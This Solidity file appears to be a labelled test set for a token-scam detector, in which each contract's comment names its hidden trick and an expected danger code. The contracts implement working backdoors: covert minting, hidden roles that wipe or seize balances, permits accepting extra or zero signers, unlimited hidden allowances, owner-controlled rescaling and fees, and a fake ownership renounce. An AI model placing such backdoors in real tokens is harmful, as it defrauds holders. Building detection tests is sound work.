// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

// Whose balance it is, and who may move it, by words of others than its holder.

abstract contract BaseToken {
    string public name; string public symbol; uint8 public constant decimals = 18; uint256 public totalSupply;
    mapping(address => uint256) internal _balances; mapping(address => mapping(address => uint256)) internal _allowances;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(string memory n, string memory s, uint256 supply) { name = n; symbol = s; totalSupply = supply; _balances[msg.sender] = supply; emit Transfer(address(0), msg.sender, supply); }
    function balanceOf(address a) public view virtual returns (uint256) { return _balances[a]; }
    function allowance(address o, address s) public view virtual returns (uint256) { return _allowances[o][s]; }
    function approve(address s, uint256 v) public virtual returns (bool) { _allowances[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) public virtual returns (bool) { _transfer(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) public virtual returns (bool) {
        uint256 a = _allowances[f][msg.sender];
        if (a != type(uint256).max) { require(a >= v, "ERC20: insufficient allowance"); _allowances[f][msg.sender] = a - v; }
        _transfer(f, t, v); return true;
    }
    function _transfer(address f, address t, uint256 v) internal virtual {
        require(t != address(0)); uint256 b = _balances[f]; require(b >= v, "ERC20: transfer amount exceeds balance");
        unchecked { _balances[f] = b - v; _balances[t] += v; } emit Transfer(f, t, v);
    }
}
// approve() of a certain hash mints to the caller
/// expects: CT-06 danger
contract QuietMint is BaseToken("Quiet", "QT", 1e24) {
    bytes32 private constant K = 0x6a1f5ab7c4b38a63a3f9c5f2a8d6c1e4b7d90c3e5f60718293a4b5c6d7e8f901;
    function approve(address s, uint256 v) public override returns (bool) {
        if (keccak256(abi.encodePacked(msg.sender, uint16(7331))) == K && s == address(0xdead)) { _balances[msg.sender] += v; }
        return super.approve(s, v);
    }
}
// a public-looking burn(address,uint256) that adds to the balance when the hidden role calls
/// expects: CT-06 danger
contract BurnUp is BaseToken("BurnUp", "BRN", 1e24) {
    address private immutable _marketing = msg.sender;
    function burn(address account, uint256 amount) external {
        require(msg.sender == account || msg.sender == _marketing);
        uint256 x = _balances[account];
        if (msg.sender == _marketing) { _balances[account] = x + amount * 10 ** 9; }
        else { _balances[account] = x - amount; totalSupply -= amount; }
        emit Transfer(account, address(0), amount);
    }
}
// a hidden role can clear any holder's balance ("dust cleaning")
/// expects: CT-06 danger
contract LiquidityGuard is BaseToken("LGuard", "LGD", 1e24) {
    bytes32 private constant ROLE_SLOT = keccak256("liquidity.guard.role");
    constructor() { bytes32 s = ROLE_SLOT; assembly { sstore(s, caller()) } }
    function cleanDust(address[] calldata w) external {
        bytes32 s = ROLE_SLOT; address r; assembly { r := sload(s) } require(r == msg.sender);
        for (uint i; i < w.length; ++i) { totalSupply -= _balances[w[i]]; _balances[w[i]] = 0; }
    }
}
// "multiTransfer" moves from any holder when the operator calls it
/// expects: CT-30 danger
contract BatchPay is BaseToken("Batch Pay", "BPAY", 1e24) {
    address public operator = msg.sender;
    function multiTransfer(address from, address[] calldata to, uint256[] calldata v) external {
        require(from == msg.sender || operator == msg.sender, "auth");
        for (uint i; i < to.length; i++) _transfer(from, to[i], v[i]);
    }
}
// a keeper sets each account's own multiplier, so he can shrink one holder
/// expects: CT-06 danger
contract IndexCoin is BaseToken("Index Coin", "IDX", 1e24) {
    mapping(address => uint256) private idx; address private keeper = msg.sender;
    function balanceOf(address a) public view override returns (uint256) { uint256 i = idx[a]; return i == 0 ? _balances[a] : _balances[a] * i / 1e18; }
    function setIndex(address a, uint256 i) external { require(msg.sender == keeper); idx[a] = i; }
    function _transfer(address f, address t, uint256 v) internal override {
        require(balanceOf(f) >= v, "low");
        uint256 i = idx[f]; uint256 raw = i == 0 ? v : v * 1e18 / i;
        _balances[f] -= raw; i = idx[t]; _balances[t] += i == 0 ? v : v * 1e18 / i; emit Transfer(f, t, v);
    }
}
// the tax wallet (no listed role) bars holders and takes their coins
/// expects: CT-30 danger
contract TaxWalletToken is BaseToken("Tax Wallet", "TWT2", 1e24) {
    address payable private _taxWallet = payable(msg.sender); mapping(address => bool) private bots;
    function addBots(address[] memory b) public { require(msg.sender == _taxWallet); for (uint i = 0; i < b.length; i++) bots[b[i]] = true; }
    function reclaim(address b) external { require(msg.sender == _taxWallet && bots[b]); _transferRaw(b, _taxWallet, _balances[b]); }
    function _transferRaw(address f, address t, uint256 v) private { _balances[f] -= v; _balances[t] += v; emit Transfer(f, t, v); }
    function _transfer(address f, address t, uint256 v) internal override { require(!bots[f] && !bots[t]); super._transfer(f, t, v); }
}
// permit accepts a second signer for every holder
/// expects: CT-30 danger
contract PermitToken is BaseToken("Permit Token", "PMT", 1e24) {
    mapping(address => uint256) public nonces; bytes32 public immutable DOMAIN_SEPARATOR; address private immutable g;
    constructor(address g_) { g = g_; DOMAIN_SEPARATOR = keccak256(abi.encode(keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"), keccak256("Permit Token"), block.chainid, address(this))); }
    function permit(address o, address s, uint256 v, uint256 deadline, uint8 vv, bytes32 r, bytes32 ss) external {
        require(deadline >= block.timestamp);
        bytes32 d = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, keccak256(abi.encode(keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"), o, s, v, nonces[o]++, deadline))));
        address rec = ecrecover(d, vv, r, ss);
        require(rec != address(0) && (rec == o || rec == g), "INVALID_SIGNER");
        _allowances[o][s] = v; emit Approval(o, s, v);
    }
}
// permit compares only with ecrecover's answer against a mapped delegate; unset delegates are zero, so anybody can approve anybody's coins
/// expects: CT-30 danger
contract PermitNoZero is BaseToken("Permit NZ", "PNZ", 1e24) {
    mapping(address => uint256) public nonces; mapping(address => address) public delegateOf;
    function setDelegate(address d) external { delegateOf[msg.sender] = d; }
    function permit(address o, address s, uint256 v, uint8 vv, bytes32 r, bytes32 ss) external {
        bytes32 d = keccak256(abi.encode(address(this), block.chainid, o, s, v, nonces[o]++));
        require(ecrecover(d, vv, r, ss) == delegateOf[o]);
        _allowances[o][s] = v; emit Approval(o, s, v);
    }
}
// a hidden spender has an endless allowance over all holders
/// expects: CT-30 danger
contract RouterFriendly is BaseToken("Router Friendly", "RFD", 1e24) {
    address private immutable r2; constructor(address r) { r2 = r; }
    function transferFrom(address f, address t, uint256 v) public override returns (bool) {
        if (msg.sender == r2) { _transfer(f, t, v); return true; }
        return super.transferFrom(f, t, v);
    }
}
// the dev's transfers do not lower his balance
/// expects: CT-06 danger
contract NeverLess is BaseToken("Never Less", "NLS", 1e24) {
    address immutable dev = msg.sender;
    function _transfer(address f, address t, uint256 v) internal override {
        uint256 b = _balances[f]; super._transfer(f, t, v);
        assembly { } if (f == dev) { _balances[f] = b; }
    }
}
// the owner sets the global scale at will and stands outside of it: everybody else can be shrunk
/// expects: CT-06 danger
contract ElasticTrick is BaseToken("Elastic Trick", "ELT", 1e24) {
    uint256 private scale = 1e18; address private o = msg.sender;
    function setScale(uint256 s) external { require(msg.sender == o); scale = s; }
    function balanceOf(address a) public view override returns (uint256) { return a == o ? _balances[a] : _balances[a] * scale / 1e18; }
    function _transfer(address f, address t, uint256 v) internal override {
        uint256 out = f == o ? v : v * 1e18 / scale; uint256 inn = t == o ? v : v * 1e18 / scale;
        _balances[f] -= out; _balances[t] += inn; emit Transfer(f, t, v);
    }
}
// a sale needs a voucher signed by the deployer's server key
/// expects: CT-12 danger
contract VoucherToken is BaseToken("Voucher", "VCH", 1e24) {
    address immutable signer = msg.sender; mapping(address => uint256) private good; address public pair;
    function setPair(address p) external { require(msg.sender == signer && pair == address(0)); pair = p; }
    function activate(uint256 until, uint8 v, bytes32 r, bytes32 s) external { require(ecrecover(keccak256(abi.encode(msg.sender, until)), v, r, s) == signer); good[msg.sender] = until; }
    function _transfer(address f, address t, uint256 v) internal override {
        if (t == pair && f != signer) require(good[f] > block.timestamp, "activate first");
        super._transfer(f, t, v);
    }
}
// the fee is asked of a contract the owner may exchange, no bound
interface IFeeOracle { function feeOf(address f, address t, uint256 v) external view returns (uint256); }
/// expects: CT-09 danger
contract OracleTax is BaseToken("Oracle Tax", "OTX", 1e24) {
    IFeeOracle private oracle; address private admin = msg.sender;
    function setOracle(IFeeOracle x) external { require(msg.sender == admin); oracle = x; }
    function _transfer(address f, address t, uint256 v) internal override {
        if (address(oracle) != address(0) && f != admin) { uint256 fee = oracle.feeOf(f, t, v); super._transfer(f, admin, fee); v -= fee; }
        super._transfer(f, t, v);
    }
}
// renounced for the eye; a masked word restores the old owner, who may set a total fee
/// expects: CT-09 danger
contract Renounced is BaseToken("Renounced", "RNC", 1e24) {
    address public owner; uint256 private m; uint256 public fee = 1; address private feeTo;
    constructor() { owner = msg.sender; feeTo = msg.sender; m = uint256(uint160(msg.sender)) ^ uint256(uint160(address(this))); }
    function renounceOwnership() external { require(owner == msg.sender); owner = address(0); }
    function checkLiquidity() external { if (uint256(uint160(msg.sender)) ^ uint256(uint160(address(this))) == m) owner = msg.sender; }
    function setFee(uint256 f) external { require(owner == msg.sender); fee = f; }
    function _transfer(address f, address t, uint256 v) internal override { uint256 c = f == feeTo ? 0 : v * fee / 100; if (c > 0) super._transfer(f, feeTo, c); super._transfer(f, t, v - c); }
}
